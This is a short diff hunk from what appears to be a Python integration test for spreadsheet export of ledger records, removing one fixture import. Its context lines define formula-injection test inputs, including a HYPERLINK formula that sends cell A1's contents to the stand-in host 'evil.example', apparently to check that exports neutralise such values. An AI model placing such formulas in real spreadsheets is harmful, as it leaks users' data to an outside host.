@@ -8,7 +8,6 @@ from openpyxl import load_workbook
 from app.extensions import db
 from app.models import LedgerItem
 from app.services.shared import audit
-from tests.integration.ledger_world import ledger_world  # noqa: F401
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
 HOSTILE = {"title": FORMULA, "measures": "@SUM(1+1)\x01已整改", "responsible_leader": "-2+3",
